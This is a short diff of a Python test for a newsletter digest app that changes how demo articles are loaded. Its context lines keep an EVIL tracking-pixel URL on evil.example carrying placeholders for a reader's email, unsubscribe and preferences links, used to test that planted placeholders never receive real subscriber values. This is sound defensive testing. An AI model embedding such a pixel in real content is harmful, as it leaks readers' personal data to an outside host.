@@ -18,6 +18,7 @@ from digest import demo
 from digest.models import Article, Comment, Section, Subscriber
 from digest.wiring import Services
 from tests.support.common import FIXED_NOW
+from tests.support.demo_data import load_demo_articles
 
 PLANTED = "__UNSUB_URL__ __PREFS_URL__ __EMAIL__ __READER__ __CONFIRM_URL__"
 EVIL = "https://evil.example/p.gif?u=__UNSUB_URL__&e=__EMAIL__&p=__PREFS_URL__&r=__READER__"
@@ -36,7 +37,7 @@ def test_placeholders_in_data_never_become_a_readers_values(
     services: Services, fixed_date: date
 ) -> None:
     schedule = services.schedule("daily")
-    demo.load(services.factory, demo.build(schedule, fixed_date))
+    load_demo_articles(services.factory, schedule, fixed_date)
     demo.add_subscribers(services.factory, 3, now=FIXED_NOW)
     with services.factory.begin() as session:
         session.execute(
